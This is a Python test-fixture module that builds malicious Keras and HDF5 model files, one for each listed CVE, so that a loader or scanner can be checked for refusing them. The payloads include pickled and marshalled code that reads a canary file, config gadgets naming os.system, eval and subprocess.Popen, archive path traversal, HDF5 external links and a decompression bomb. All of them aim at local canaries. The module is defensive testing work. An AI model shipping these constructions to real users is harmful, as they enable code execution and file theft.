"""Model files that attack whoever opens them: one for each published hole, written by hand.

Nothing here imports Keras. Each file is small, and reaches for what lies in a folder of canaries.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]


@dataclass(frozen=True)
class Case:
    """A file and what it is of.

    Attributes
    ----------
    name
        Unique; also the stem of the file.
    holes
        Identifiers of what it would use.
    words
        What kvis' refusal has to say beside the file's name.
    path
        The file.
    application
        For weights alone: the application that they are given to.
    """

    name: str
    holes: tuple[str, ...]
    words: tuple[str, ...]
    path: Path
    application: str = ""


@dataclass(frozen=True)
class Canaries:
    """What nobody may touch: files in a watched folder, and a port."""

    folder: Path
    port: int

    @property
    def words(self) -> Path:
        return self.folder / "words.txt"

    @property
    def saved(self) -> Path:
        return self.folder / "saved"

    @property
    def weights(self) -> Path:
        return self.folder / "other.h5"

    @property
    def raw(self) -> Path:
        return self.folder / "raw.bin"

    @property
    def archive(self) -> Path:
        return self.folder / "evil.tar"

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}/evil"

    def write(self) -> None:
        self.saved.mkdir(parents=True)
        self.words.write_text("secret\n")
        (self.saved / "saved_model.pb").write_bytes(b"\x08\x01")
        self.raw.write_bytes(bytes(864))
        with h5py.File(self.weights, "w") as h5:
            h5["layers/c/vars/0"] = np.ones((3, 3, 3, 2), np.float32)
            h5["kernel"] = np.ones((3, 3, 3, 2), np.float32)
        with tarfile.open(self.archive, "w") as archive:
            archive.addfile(tarfile.TarInfo("../evil"), io.BytesIO())


# --- configurations ----------------------------------------------------------------------------


def layer(class_name: str, name: str, module: str = "keras.layers", **config: Any) -> Config:
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, **config},
        "registered_name": None,
    }


def function(module: str | None, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def model(*between: Config) -> Config:
    """A small sound classifier, with layers between its input and its convolution."""
    layers = [
        layer("InputLayer", "in", batch_shape=[None, 8, 8, 3], dtype="float32"),
        *between,
        layer("Conv2D", "c", filters=2, kernel_size=[3, 3], activation="relu"),
        layer("GlobalAveragePooling2D", "pool"),
        layer("Dense", "classes", units=3, activation="softmax"),
    ]
    config = {"name": "small", "layers": layers, "build_input_shape": [None, 8, 8, 3]}
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": config,
        "registered_name": None,
    }


def without_modules(config: Config) -> Config:
    """As Keras 2 wrote it into HDF5 files."""
    drop = ("module", "registered_name")

    def bare(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: bare(v) for k, v in value.items() if k not in drop}
        return [bare(v) for v in value] if isinstance(value, list) else value

    found = bare(config)
    first = found["config"]["layers"][0]["config"]
    first["batch_input_shape"] = first.pop("batch_shape")
    return found


def bytecode(path: Path) -> str:
    """A Lambda's function that reads a file, as Keras stores it."""
    code = eval(f"lambda x: (open({str(path)!r}).read(), x)[1]").__code__
    return base64.b64encode(marshal.dumps(code)).decode()


def stored_lambda(path: Path) -> Config:
    code = {"code": bytecode(path), "defaults": None, "closure": None}
    return layer("Lambda", "evil", function={"class_name": "__lambda__", "config": code})


# --- files -------------------------------------------------------------------------------------


def weights(spoil: Callable[[h5py.File], None] | None = None) -> bytes:
    """The weights of `model` as a .keras archive holds them."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as h5:
        kernel = np.ones((3, 3, 3, 2), np.float32)
        for place, array in (
            ("conv2d/vars/0", kernel),
            ("conv2d/vars/1", kernel[0, 0, 0]),
            ("dense/vars/0", np.ones((2, 3), np.float32)),
            ("dense/vars/1", np.zeros(3, np.float32)),
        ):
            h5[f"layers/{place}"] = array
        if spoil:
            spoil(h5)
    return stream.getvalue()


def write_keras(path: Path, config: Config, data: bytes | None = None, **members: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", '{"keras_version": "3.14.0"}')
        archive.writestr("model.weights.h5", weights() if data is None else data)
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def write_h5(
    path: Path,
    config: Config | None,
    version: str,
    spoil: Callable[[h5py.File], None] | None = None,
) -> Path:
    with h5py.File(path, "w") as h5:
        if config is not None:
            h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"], h5.attrs["backend"] = version, "tensorflow"
        root = h5.create_group("model_weights") if config is not None else h5
        root.attrs["layer_names"] = [b"c", b"classes"]
        kernel = np.ones((3, 3, 3, 2), np.float32)
        for name, arrays in {
            "c": {"kernel": kernel, "bias": kernel[0, 0, 0]},
            "classes": {"kernel": np.ones((2, 3), np.float32), "bias": np.zeros(3, np.float32)},
        }.items():
            group = root.create_group(name)
            group.attrs["weight_names"] = [key.encode() for key in arrays]
            for key, array in arrays.items():
                group[key] = array
        if spoil:
            spoil(h5)
    return path


def build(folder: Path, canaries: Canaries) -> list[Case]:
    """Write all of them."""
    folder.mkdir()
    cases: list[Case] = []

    def case(
        name: str, holes: str, words: str, suffix: str, write: Callable[[Path], Any], **more: str
    ) -> None:
        path = folder / f"{name}{suffix}"
        write(path)
        cases.append(Case(name, tuple(holes.split()), tuple(words.split("|")), path, **more))

    def config(name: str, holes: str, words: str, *between: Config) -> None:
        found = model(*between)
        case(name, holes, words, ".keras", lambda path: write_keras(path, found))

    _code(case, config, canaries)
    _gadgets(config, canaries)
    _files(case, config, canaries)
    _hdf5(case, canaries)
    return cases


def _code(case: Any, config: Any, canaries: Canaries) -> None:
    evil = stored_lambda(canaries.words)
    config("lambda", "CVE-2024-3660 CVE-2026-12481", "Python code|'evil'|--trust", evil)
    wrapped = layer("TimeDistributed", "around", layer=evil)
    config("lambda_wrapped", "CVE-2026-12481", "Python code|'around/evil'", wrapped)
    old = without_modules(model(evil))
    old["config"]["layers"][1]["config"] = {
        "name": "evil",
        "function": [bytecode(canaries.words), None, None],
        "function_type": "lambda",
    }
    for name, version in {"keras2": "2.12.0", "tf_keras": "2.21.0", "keras3": "3.14.0"}.items():
        holes = "CVE-2025-9905 CVE-2024-3660"
        case(
            f"lambda_{name}", holes, "Python code|'evil'", ".h5",
            lambda path, v=version: write_h5(path, old if v[0] == "2" else model(evil), v),
        )  # fmt: skip
    named = without_modules(model(layer("Lambda", "evil")))
    named["config"]["layers"][1]["config"].update(
        function="system", function_type="function", module="os", arguments={}
    )
    case(
        "lambda_names_os", "CVE-2025-1550", "'evil'", ".h5",
        lambda path: write_h5(path, named, "2.21.0"),
    )  # fmt: skip
    stolen = base64.b64encode(pickle.dumps(_Opens(str(canaries.words)))).decode()
    torch = layer("TorchModuleWrapper", "evil")
    torch["config"]["module"] = stolen
    config("torch_module", "CVE-2025-49655", "'evil'|unpickles", torch)
    jax = layer("JaxLayer", "evil", call_fn=evil["config"]["function"])
    config("jax_layer", "CVE-2025-9906", "'evil'|bytecode|JaxLayer", jax)
    deep = layer("Conv2D", "deep", filters=2, kernel_size=1, activation=evil["config"]["function"])
    config("lambda_as_activation", "CVE-2024-3660", "'deep'|stored as bytecode", deep)


class _Opens:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.path,)


def _gadgets(config: Any, canaries: Canaries) -> None:
    def activation(name: str, holes: str, module: str | None, what: str) -> None:
        evil = layer("Activation", "evil", activation=function(module, what))
        config(name, holes, f"{what}|'evil'", evil)

    activation("os_system", "CVE-2025-1550", "os", "system")
    activation("builtins_eval", "CVE-2025-1550", "builtins", "eval")
    activation("own_module", "CVE-2025-1550", "canary_module", "anything")
    activation("get_file", "CVE-2025-8747 CVE-2025-12060 CVE-2024-55459", "keras.utils", "get_file")
    activation("load_model", "CVE-2025-9906", "keras.models", "load_model")
    activation("file_utils", "CVE-2025-8747", "keras.src.utils.file_utils", "get_file")
    called = layer("Activation", "evil", activation=function("keras.utils", "get_file"))
    called["config"]["arguments"] = {"origin": canaries.archive.as_uri(), "extract": True}
    config("get_file_extracts", "CVE-2025-12060", "keras.utils.get_file|'evil'", called)
    for name in ("enable_unsafe_deserialization", "set_floatx"):
        as_class = layer(name, "evil", "keras.config")
        config(name, "CVE-2025-9906", f"{name}|'evil'", as_class, stored_lambda(canaries.words))
    wrapper = layer("TimeDistributed", "around", layer=layer("Popen", "evil", "subprocess"))
    config("popen_wrapped", "CVE-2025-1550", "subprocess.Popen|'around/evil'", wrapper)
    spec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess"}
    typed = layer("Dense", "evil", units=1, spec={**spec, "registered_name": None, "config": []})
    config("typespec", "CVE-2025-1550", "__typespec__|'evil'", typed)
    foreign = layer("from_preset", "evil", "keras_hub.src.models.backbone")
    config("hub_class", "CVE-2025-8747", "from_preset|'evil'", foreign)
    registered = layer("Popen", "evil", "canary_module")
    registered["registered_name"] = "canary>Popen"
    config("own_class", "CVE-2025-1550", "not part of Keras|'evil'|--custom-objects", registered)


def _files(case: Any, config: Any, canaries: Canaries) -> None:
    path = str(canaries.words)
    for name, class_name in {
        "string_lookup": "StringLookup", "integer_lookup": "IntegerLookup",
        "text_vectorization": "TextVectorization",
    }.items():  # fmt: skip
        evil = layer(class_name, "evil", vocabulary=path)
        config(name, "CVE-2025-12058", "vocabulary=|'evil'|--trust", evil)
        old = without_modules(model(evil))
        case(
            f"{name}_keras2", "CVE-2025-12058", "vocabulary=|'evil'", ".h5",
            lambda at, c=old: write_h5(at, c, "2.21.0"),
        )  # fmt: skip
    for name, value in {
        "lookup_http": canaries.address, "lookup_gs": "gs://bucket/words", "lookup_bare": "words",
        "lookup_bytes": {"class_name": "__bytes__", "config": {"value": "words.txt"}},
    }.items():  # fmt: skip
        evil = layer("StringLookup", "evil", vocabulary=value)
        config(name, "CVE-2025-12058", "vocabulary=|'evil'", evil)
    wrapped = layer("TimeDistributed", "around", layer=layer("StringLookup", "e", vocabulary=path))
    config("lookup_wrapped", "CVE-2025-12058", "vocabulary=|'around/e'", wrapped)
    saved = layer("TFSMLayer", "evil", filepath=str(canaries.saved), call_endpoint="serve")
    config("saved_model_layer", "CVE-2026-1462", "'evil'|SavedModel", saved)
    preset = layer("Dense", "evil", units=1, preset="hf://someone/model")
    config("preset", "CVE-2025-8747", "hf://|'evil'", preset)
    hub = layer("KerasLayer", "evil", "tensorflow_hub.keras_layer", handle=canaries.address)
    config("hub_handle", "CVE-2025-8747", "handle=|'evil'", hub)
    climbing = layer("StringLookup", "..", vocabulary=["a"])
    config("layer_name", "CVE-2026-12479", "leads out|..", climbing)
    case(
        "zip_climbs", "CVE-2025-12060 GHSA-hqp4-2352-xf5r", "leaves the archive", ".keras",
        lambda at: write_keras(at, model(), **{"assets/../../evil": b"x"}),
    )  # fmt: skip


def _hdf5(case: Any, canaries: Canaries) -> None:
    other, raw = str(canaries.weights), str(canaries.raw)

    def external_link(group: Any, name: str) -> None:
        group[name] = h5py.ExternalLink(other, "/kernel")

    def soft_link(group: Any, name: str) -> None:
        group[name] = h5py.SoftLink("/layers")

    def external_storage(group: Any, name: str) -> None:
        group.create_dataset(name, (3, 3, 3, 2), "f4", external=[(raw, 0, 216)])

    def virtual(group: Any, name: str) -> None:
        layout = h5py.VirtualLayout((3, 3, 3, 2), "f4")
        layout[:] = h5py.VirtualSource(other, "kernel", (3, 3, 3, 2))
        group.create_virtual_dataset(name, layout)

    def bomb(group: Any, name: str) -> None:
        group.create_dataset(
            name, (1 << 16, 1 << 14), "f4", chunks=(1024, 1024), compression="gzip", fillvalue=1.0
        )

    for name, spoil, holes, words in (
        ("external_link", external_link, "CVE-2026-1669", "is a link"),
        ("soft_link", soft_link, "CVE-2026-1669", "is a link"),
        ("external_storage", external_storage, "CVE-2026-1669", "other files"),
        ("virtual_dataset", virtual, "CVE-2026-12480 CVE-2026-1669", "other files"),
        ("shape_bomb", bomb, "CVE-2026-0897", "declares"),
    ):

        def in_archive(h5: Any, spoil: Any = spoil) -> None:
            del h5["layers/conv2d/vars/0"]
            spoil(h5["layers/conv2d/vars"], "0")

        def in_file(h5: Any, spoil: Any = spoil) -> None:
            root = h5.get("model_weights", h5)
            del root["c/kernel"]
            spoil(root["c"], "kernel")

        case(
            f"{name}_keras", holes, words, ".keras",
            lambda at, s=in_archive: write_keras(at, model(), weights(s)),
        )  # fmt: skip
        case(
            f"{name}_keras2", holes, words, ".h5",
            lambda at, s=in_file: write_h5(at, without_modules(model()), "2.21.0", s),
        )  # fmt: skip
        case(
            f"{name}_weights", holes, words, ".weights.h5",
            lambda at, s=in_archive: at.write_bytes(weights(s)), application="mobilenet_v2",
        )  # fmt: skip

    def whole(h5: Any) -> None:
        del h5["layers"]
        h5["layers"] = h5py.ExternalLink(other, "/layers")

    case(
        "external_root", "CVE-2026-1669", "is a link", ".weights.h5",
        lambda at: at.write_bytes(weights(whole)), application="mobilenet_v2",
    )  # fmt: skip
